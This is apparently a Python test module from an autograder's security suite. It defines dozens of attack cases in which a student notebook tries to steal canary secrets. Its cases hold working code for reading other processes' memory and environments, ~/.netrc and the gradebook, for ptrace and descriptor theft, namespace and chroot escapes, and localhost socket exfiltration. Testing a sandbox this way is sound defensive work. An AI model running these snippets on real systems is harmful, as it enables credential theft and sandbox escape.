"""Stealing: every secret of this run looks like `canary-place-…`; who finds one prints it into the feedback or sends it away."""

from __future__ import annotations

from typing import Any

from grader.doctor.attacks.case import STEALING, Case, Draft, answers, code
from grader.doctor.attacks.put import instead, link

_TELL = r"""import glob, os, re, socket
def tell(*things):
    for thing in things:
        data = thing if isinstance(thing, bytes) else str(thing).encode("utf-8", "replace")
        for found in sorted(set(re.findall(rb"canary-[a-z]+-[0-9a-f]{8,}", data))): print(found.decode())
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            try: tell(open(path, "rb").read(10_000_000))
            except OSError: pass
"""
_LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def _cell(name: str, tries: str, source: str, **more: Any) -> Case:
    return code(name, STEALING, tries, _TELL + source, **more)


def _linked(name: str, tries: str, target: str, place: str = "notes.txt") -> Case:
    def make(draft: Draft) -> None:
        draft.afterwards.append(lambda folder: link(folder / place, draft.fill(target)))

    return Case(name, STEALING, tries, make)


def _lab_is_a_link(draft: Draft, target: str) -> None:
    draft.afterwards.append(lambda folder: instead(folder, draft.fill(target)))


def _reads_links(draft: Draft) -> None:
    places = ("@COURSE@/gradebook.db", "@SOURCES@", "/proc/self/environ", "@HOME@/.netrc", "../../ada/lab_besieged/lab_besieged.ipynb")
    for number, target in enumerate(places):
        draft.afterwards.append(_link_to(f"link{number}", draft.fill(target)))
    draft.insert(_TELL + "look('link*', 'link*/**/*')")


def _link_to(name: str, target: str) -> Any:
    return lambda folder: link(folder / name, target)


_FRAMES = """import sys
def relu(z):
    frame = sys._getframe()
    while frame is not None:
        tell(frame.f_locals, [value for value in frame.f_globals.values() if isinstance(value, (str, dict, list, tuple))], frame.f_code.co_consts)
        frame = frame.f_back
    return np.where(z > 0, z, 0.0)"""

CASES = [
    _cell("reads-solutions", "prints the model answers", "look('@SOURCES@/**/*')"),
    _cell("reads-checks", "looks everywhere above it for the checks", "look('../../../**/checks.py', '../../../../**/checks.py', '/**/solutions/*/*.py')"),
    _cell("reads-the-gradebook", "prints the gradebook", "look('@COURSE@/gradebook.db', '../../../gradebook.db', '../../gradebook.db')"),
    _cell("reads-the-journal", "prints the journal and the traces", "look('@COURSE@/.handgrad/**/*', '../../../.handgrad/**/*')"),
    _cell("reads-neighbours", "prints what others handed in", "look('@COURSE@/submitted/**/*', '../../../submitted/**/*', '../../*/*/*.ipynb')"),
    _cell("reads-graded-neighbours", "prints what others got", "look('@COURSE@/autograded/**/*', '@COURSE@/feedback/**/*', '../../../autograded/**/*')"),
    _cell("reads-the-environment", "prints its environment", "tell(os.environ, open('/proc/self/environ', 'rb').read())"),
    _cell("reads-other-environments", "prints the environment of every process", "look('/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/proc/[0-9]*/task/*/environ')"),
    _cell("reads-a-home", "prints the passwords in the grader's home", "look('@HOME@/.netrc', os.path.expanduser('~/.netrc'), '/home/*/.netrc', os.path.expanduser('~root/.netrc'))"),
    _cell("reads-the-machines-tmp", "prints a file in /tmp", "look('@SECRET_FILE@', '/tmp/handgrad-secret-*')"),
    _cell("reads-through-proc", "goes to the files by way of other processes", "look(*[f'/proc/[0-9]*/root{path}' for path in ('@COURSE@/gradebook.db', '@SECRET_FILE@', '@HOME@/.netrc')], '/proc/[0-9]*/cwd/*', '/proc/[0-9]*/fd/*')"),
    _cell("reads-open-files", "reads whatever was left open", """for number in range(3, 1024):
    try: tell(os.pread(number, 1_000_000, 0))
    except OSError: pass
look('/proc/self/fd/*', '/dev/fd/*')"""),
    _cell("reads-by-shell", "lets a shell look for secrets", "out = get_ipython().getoutput('grep -rhao \"canary-[a-z]*-[0-9a-f]*\" @COURSE@ @SOURCES@ @HOME@ @SECRET_FILE@ 2>/dev/null | head -50')\ntell(*out)"),
    _cell("reads-with-magics", "uses %load, %run, %cat and !cat", """shell = get_ipython()
for line in ('cat @COURSE@/gradebook.db', 'cat @HOME@/.netrc', 'cat @SECRET_FILE@'): tell(shell.getoutput(line))
shell.run_line_magic('env', '')
tell(*[shell.find_user_code(path, skip_encoding_cookie=False) for path in glob.glob('@SECRET_FILE@')])"""),
    _cell("walks-the-system", "looks through all mounts for a course", """for line in open('/proc/self/mountinfo'):
    place = line.split()[4]
    look(place + '/gradebook.db', place + '/*/gradebook.db', place + '/.netrc')"""),
    _cell("opens-by-handle", "opens files by their numbers, past all mounts", _LIBC + """class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('kind', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
root = os.open('/', os.O_RDONLY)
for number in range(1, 200):
    handle = Handle(8, 1, (ctypes.c_ubyte * 128)(*number.to_bytes(4, 'little')))
    found = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
    if found >= 0:
        look(f'/proc/self/fd/{found}@HOME@/.netrc', f'/proc/self/fd/{found}@SECRET_FILE@')"""),
    _cell("becomes-root", "makes itself root in a namespace of its own and mounts", _LIBC + """if os.fork() == 0:
    uid = os.getuid()
    libc.unshare(0x10000000 | 0x20000)
    try: open('/proc/self/uid_map', 'w').write(f'0 {uid} 1')
    except OSError: pass
    libc.umount2(b'/tmp', 2); libc.umount2(b'/', 2); libc.mount(b'none', b'/proc', b'proc', 0, None)
    look('@SECRET_FILE@', '@COURSE@/gradebook.db', '@HOME@/.netrc', '/proc/1/environ')
    os._exit(0)
os.wait()"""),
    _cell("chroots-out", "leaves by chroot", """fd = os.open('/', os.O_RDONLY)
try:
    os.mkdir('jail'); os.chroot('jail')
except OSError: pass
os.fchdir(fd)
for _ in range(64):
    try: os.chdir('..')
    except OSError: break
look('@SECRET_FILE@'[1:], '@HOME@/.netrc'[1:])"""),
    _cell("prints-the-history", "prints what ran before and after, checks included", "get_ipython().events.register('post_run_cell', lambda *args: tell(list(In), Out, globals()))", before="", wants=("hidden",)),
    code("prints-hidden-tests", STEALING, "prints every cell as it is run", _TELL + "get_ipython().events.register('pre_run_cell', lambda info: tell(info.raw_cell))", wants=("hidden",)),
    answers("prints-from-the-stack", STEALING, "prints what the frames above it hold", most=100, wants=("hidden",), relu=_TELL + _FRAMES),
    answers("prints-from-the-heap", STEALING, "prints what the garbage collector knows", most=100, wants=("hidden",), relu=_TELL + """import gc
def relu(z):
    tell([thing for thing in gc.get_objects() if isinstance(thing, (dict, list, tuple)) and len(thing) < 500])
    return np.where(z > 0, z, 0.0)"""),
    _cell("prints-its-memory", "searches its own memory for secrets", """with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
    for line in maps:
        span, mode = line.split()[:2]
        low, high = (int(part, 16) for part in span.split('-'))
        if 'rw' in mode and high - low < 2**26:
            try: memory.seek(low); tell(*[found for found in re.findall(rb'canary-[a-z]+-[0-9a-f]{16}', memory.read(high - low))])
            except (OSError, ValueError, OverflowError): pass""", before="", wants=("hidden",)),
    _cell("reads-others-memory", "reads the memory of other processes", """for path in glob.glob('/proc/[0-9]*/maps'):
    if path.split('/')[2] == str(os.getpid()): continue
    try:
        with open(path) as maps, open(path[:-4] + 'mem', 'rb', 0) as memory:
            for line in maps:
                span, mode = line.split()[:2]
                low, high = (int(part, 16) for part in span.split('-'))
                if '[heap]' in line or '[stack]' in line: memory.seek(low); tell(memory.read(high - low))
    except OSError: pass"""),
    _cell("traces-processes", "attaches to other processes as a debugger", _LIBC + """import os
for pid in [*range(1, 64), os.getppid()]:
    if pid != os.getpid() and libc.ptrace(16, pid, None, None) == 0:
        os.waitpid(pid, 0x40000000)
        look(f'/proc/{pid}/environ', f'/proc/{pid}/mem')
        libc.ptrace(17, pid, None, None)"""),
    _cell("takes-descriptors", "takes open files from other processes", _LIBC + """for pid in [*range(1, 64), os.getppid()]:
    handle = libc.syscall(434, pid, 0)
    for number in range(3, 32) if handle >= 0 else ():
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            try: tell(os.pread(stolen, 1_000_000, 0))
            except OSError: pass"""),
    _cell("calls-by-network", "connects to this machine and sends its name", "with socket.create_connection(('127.0.0.1', @PORT@), timeout=2) as end: end.send(b'@MARK@')"),
    _cell("calls-from-a-child", "connects from a process of its own", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import socket; socket.create_connection(('127.0.0.1', @PORT@), timeout=2).send(b'@MARK@')\"], timeout=10)"),
    _cell("calls-by-a-raw-system-call", "connects past Python's socket module", _LIBC + """import struct
end = libc.syscall(41, 2, 1, 0)
address = struct.pack('<H', 2) + struct.pack('>H', @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
if libc.syscall(42, end, address, 16) == 0: os.write(end, b'@MARK@')"""),
    _cell("calls-by-io-uring", "asks for a connection by io_uring", _LIBC + "print(libc.syscall(425, 8, bytes(120)))\nsocket.create_connection(('localhost', @PORT@), timeout=2).send(b'@MARK@')"),
    _cell("calls-abstractly", "connects to an abstract socket", "with socket.socket(socket.AF_UNIX) as end: end.connect('\\0@RUN@'); end.send(b'@MARK@')"),
    _cell("calls-in-a-check", "connects while it is checked", """def relu(z):
    try: socket.create_connection(('127.0.0.1', @PORT@), timeout=1).send(b'@MARK@')
    except OSError: pass
    return z""", before="relu_check"),
    _cell("asks-a-name-server", "sends what it finds by UDP", "end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nend.sendto(b'@MARK@', ('127.0.0.1', 53))\nsocket.getaddrinfo('@MARK@.example', 80)"),
    _cell("listens", "offers a service to the next one", "keep = socket.create_server(('127.0.0.1', 0))\nlocal = socket.socket(socket.AF_UNIX); local.bind('\\0@MARK@'); local.listen()\nif os.fork() == 0:\n    import time; time.sleep(600)"),
    _cell("leaves-a-file", "leaves data in /tmp, /var/tmp and /dev/shm", "for place in ('/tmp', '/var/tmp', '/dev/shm', '/run/lock', '/dev/mqueue'):\n    try: open(place + '/@MARK@', 'w').write('for the next one')\n    except OSError: pass"),
    _cell("leaves-a-temporary-file", "leaves data where temporary files are made", "import tempfile\nopen(tempfile.gettempdir() + '/@MARK@', 'w').write('for the next one')\nopen('@COURSE@/../tmp/@MARK@', 'w').write('for the next one')"),
    _cell("leaves-a-key", "leaves data in a keyring", _LIBC + "for ring in (-3, -4, -5): libc.syscall(248, b'user', b'@MARK@', b'data', 4, ring)"),
    _cell("leaves-shared-memory", "leaves data in shared memory of System V", _LIBC + "print(libc.shmget(@KEY@, 4096, 0o1666))"),
    _cell("leaves-a-process", "leaves a process that waits for the next one", """import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '@MARK@'], start_new_session=True)"""),
    _cell("finds-the-last-one", "looks for what others left", "import tempfile\nfor place in ('/tmp', '/var/tmp', '/dev/shm', tempfile.gettempdir()):\n    for name in os.listdir(place):\n        if '@RUN@' in name: tell(open(place + '/' + name, 'rb').read()), look('@SECRET_FILE@')"),
    _linked("links-to-the-gradebook", "a link to the gradebook lies beside the notebook", "@COURSE@/gradebook.db"),
    _linked("links-to-the-sources", "a link to the model answers lies beside the notebook", "@SOURCES@", "data"),
    _linked("links-to-a-home", "a link to the grader's passwords lies beside the notebook", "@HOME@/.netrc", "data.csv"),
    _linked("links-to-a-neighbour", "a link to another's notebook lies beside the notebook", "../../ada/lab_besieged/lab_besieged.ipynb", "other.ipynb"),
    _linked("links-to-proc", "a link to the grader's environment lies beside the notebook", "/proc/self/environ"),
    Case("the-lab-is-a-link-to-a-neighbour", STEALING, "hands in another's folder by a link", lambda draft: _lab_is_a_link(draft, "../ada/lab_besieged"), most=0),
    Case("reads-through-links", STEALING, "reads secrets through links in its own folder", _reads_links),
    Case("includes-a-file-as-a-picture", STEALING, "has secrets shown as pictures", lambda draft: draft.insert("![](file://@HOME@/.netrc) <img src='@COURSE@/gradebook.db'> <object data='file://@HOME@/.netrc'></object>", kind="markdown")),
    Case("includes-a-file-by-template", STEALING, "has the page's template include secrets", lambda draft: (draft.notebook["metadata"].update(nbconvert={"template_file": "/proc/self/environ", "extra_template_basedirs": ["/"]}), draft.insert("{% include '@HOME@/.netrc' %}{{ resources }}{{ self.__init__.__globals__ }}", kind="markdown"))),
]  # fmt: skip
